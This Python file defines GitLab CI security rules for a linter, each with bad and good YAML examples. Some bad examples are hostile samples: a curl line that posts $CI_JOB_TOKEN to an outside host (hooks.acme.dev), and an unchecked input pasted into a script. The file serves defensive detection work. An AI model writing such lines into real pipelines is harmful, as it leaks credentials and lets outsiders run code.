"""GitLab CI."""

from __future__ import annotations

from ...finding import Example, Rule
from .. import ci
from ..match import Custom, Replace, Variables
from ..predicates import is_empty, is_true, matches

_KIND = ("gitlab-ci",)

RULES: tuple[Rule, ...] = (
    Rule(
        id="gitlab-debug-trace",
        family="config",
        title="debug logging prints every variable of the job, secrets too",
        severity="high",
        tier="block",
        cwe=532,
        why="With CI_DEBUG_TRACE or CI_DEBUG_SERVICES the job log holds all variables in clear; masking does not cover it.",
        fix="Take it out; set it for a single run by hand when it is needed, and delete that log.",
        match=Variables(_KIND, ("CI_DEBUG_TRACE", "CI_DEBUG_SERVICES"), is_true, mend=Replace("false")),
        equivalents=("poutine:debug_enabled",),
        references=("https://docs.gitlab.com/ci/variables/variables_troubleshooting/",),
        bad=(
            Example('variables:\n  CI_DEBUG_TRACE: «"true"»\nbuild:\n  script: [make]\n'),
            Example("build:\n  variables:\n    CI_DEBUG_SERVICES: «true»\n  script: [make]\n"),
            Example("variables:\n  CI_DEBUG_TRACE:\n    value: «'true'»\n    description: prints all\nbuild:\n  script: [make]\n"),
        ),
        good=(
            Example('variables:\n  CI_DEBUG_TRACE: "false"\nbuild:\n  script: [make]\n'),
            Example("variables:\n  CI_DEBUG_TRACE: $TRACE\nbuild:\n  script: [make]\n"),
        ),
    ),
    Rule(
        id="gitlab-git-tls-off",
        family="config",
        title="git does not verify who it talks to",
        severity="high",
        tier="block",
        cwe=295,
        why="Without verification anyone on the way can change the code that is fetched and read the token it is fetched with.",
        fix="Take it out; give a private authority to git with http.sslCAInfo or CI_SERVER_TLS_CA_FILE.",
        match=Variables(_KIND, ("GIT_SSL_NO_VERIFY",), is_true, mend=Replace("false", safe=False)),
        references=("https://git-scm.com/docs/git-config#Documentation/git-config.txt-httpsslVerify",),
        bad=(Example('variables:\n  GIT_SSL_NO_VERIFY: «"true"»\nbuild:\n  script: [make]\n'),),
        good=(
            Example('variables:\n  GIT_SSL_NO_VERIFY: "false"\nbuild:\n  script: [make]\n'),
            Example("variables:\n  GIT_SSL_NO_VERIFY: $NO_VERIFY\nbuild:\n  script: [make]\n"),
        ),
    ),
    Rule(
        id="gitlab-docker-tls-off",
        family="config",
        title="the Docker daemon of this job listens without TLS",
        severity="high",
        tier="block",
        cwe=319,
        why="An empty DOCKER_TLS_CERTDIR starts docker:dind on a plain TCP port: every container and service of the job, and on shared networks others, can drive a privileged daemon.",
        fix='Set DOCKER_TLS_CERTDIR: "/certs" and connect to port 2376.',
        match=Variables(_KIND, ("DOCKER_TLS_CERTDIR",), is_empty, mend=Replace("/certs", safe=False)),
        references=("https://docs.gitlab.com/ci/docker/using_docker_build/",),
        bad=(Example('variables:\n  DOCKER_TLS_CERTDIR: «""»\nbuild:\n  services: [docker:dind]\n  script: [make]\n'),),
        good=(
            Example('variables:\n  DOCKER_TLS_CERTDIR: "/certs"\nbuild:\n  script: [make]\n'),
            Example("variables:\n  DOCKER_TLS_CERTDIR: $CERTS\nbuild:\n  script: [make]\n"),
        ),
    ),
    Rule(
        id="gitlab-docker-plain-tcp",
        family="config",
        title="the job talks to a Docker daemon without TLS",
        severity="medium",
        tier="warn",
        cwe=319,
        why="Port 2375 is the daemon's plain one: whatever reaches it can start privileged containers on the runner.",
        fix="Use tcp://docker:2376 with DOCKER_TLS_CERTDIR: /certs and DOCKER_TLS_VERIFY: 1.",
        match=Variables(_KIND, ("DOCKER_HOST",), matches(r"^tcp://[^$]*:2375/?$")),
        references=("https://docs.gitlab.com/ci/docker/using_docker_build/",),
        bad=(Example("variables:\n  DOCKER_HOST: «tcp://docker:2375»\nbuild:\n  script: [make]\n"),),
        good=(
            Example("variables:\n  DOCKER_HOST: tcp://docker:2376\nbuild:\n  script: [make]\n"),
            Example("variables:\n  DOCKER_HOST: tcp://$DOCKER:2375\nbuild:\n  script: [make]\n"),
        ),
    ),
    Rule(
        id="gitlab-input-in-script",
        family="config",
        title="an input of free text is pasted into a script",
        severity="high",
        tier="warn",
        cwe=94,
        why="$[[ inputs.x ]] is replaced before the shell reads the script; whoever includes this component or starts the pipeline decides what runs.",
        fix="Hand the input over as a variable (variables: {X: $[[ inputs.x ]]}) and use it in quotes, or limit it with options or regex.",
        match=Custom(_KIND, ci.gitlab_inputs, ("script", "before_script", "after_script")),
        equivalents=("poutine:injection",),
        references=("https://docs.gitlab.com/ci/inputs/",),
        bad=(Example("spec:\n  inputs:\n    name:\n---\nbuild:\n  script:\n    - deploy «$[[ inputs.name ]]»\n"),),
        good=(
            Example(
                'spec:\n  inputs:\n    stage:\n      options: [test, live]\n---\nbuild:\n  script:\n    - deploy $[[ inputs.stage ]] "$NAME"\n'
            ),
            Example(
                'spec:\n  inputs:\n    name:\n---\nbuild:\n  variables:\n    NAME: $[[ inputs.name ]]\n  script:\n    - deploy "$NAME"\n'
            ),
        ),
    ),
    Rule(
        id="gitlab-token-sent-elsewhere",
        family="config",
        title="a token of the job is sent to an address that is not this GitLab",
        severity="high",
        tier="warn",
        cwe=522,
        why="CI_JOB_TOKEN and its like open this project and its registry for as long as the job runs.",
        fix="Send it to $CI_API_V4_URL only; give other services credentials of their own.",
        match=Custom(_KIND, ci.gitlab_token_elsewhere, ("script", "before_script", "after_script")),
        equivalents=("checkov:CKV_GITLABCI_1",),
        references=("https://docs.gitlab.com/ci/jobs/ci_job_token/",),
        bad=(Example('build:\n  script:\n    - curl -d «"t=$CI_JOB_TOKEN"» https://hooks.acme.dev/x\n'),),
        good=(Example('build:\n  script:\n    - \'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" "${CI_API_V4_URL}/projects"\'\n'),),
    ),
    Rule(
        id="gitlab-variable-in-request",
        family="config",
        title="variables of the pipeline are sent with curl or wget",
        severity="low",
        tier="audit",
        cwe=200,
        confidence="low",
        why="It is how stolen pipelines send out what they find; a request to a fixed address with variables of the pipeline is worth a look.",
        fix="Send only what the receiver needs, and to $CI_API_V4_URL where this GitLab is meant.",
        match=Custom(_KIND, ci.gitlab_variable_in_request, ("script", "before_script", "after_script")),
        equivalents=("checkov:CKV_GITLABCI_1",),
        references=("https://docs.gitlab.com/ci/variables/predefined_variables/",),
        bad=(Example('build:\n  script:\n    - curl -d «"$CI_COMMIT_SHA"» https://hooks.acme.dev/x\n'),),
        good=(Example('build:\n  script:\n    - curl -fsS "https://acme.dev/$VERSION"\n    - echo "$CI_COMMIT_SHA"\n'),),
    ),
    Rule(
        id="gitlab-secret-detection-off",
        family="config",
        title="a security scanner of GitLab is switched off",
        severity="low",
        tier="audit",
        cwe=1295,
        why="The scan that would have found the problem does not run, and nothing says so.",
        fix="Take the variable out, or exclude the path that gives false alarms.",
        match=Variables(
            _KIND,
            ("SAST_DISABLED", "SECRET_DETECTION_DISABLED", "DEPENDENCY_SCANNING_DISABLED", "CONTAINER_SCANNING_DISABLED", "DAST_DISABLED"),
            is_true,
            mend=Replace("false"),
        ),
        references=("https://docs.gitlab.com/user/application_security/",),
        bad=(Example("variables:\n  SECRET_DETECTION_DISABLED: «'true'»\nbuild:\n  script: [make]\n"),),
        good=(Example("variables:\n  SAST_DISABLED: 'false'\n  DAST_DISABLED: $NO_DAST\nbuild:\n  script: [make]\n"),),
    ),
)
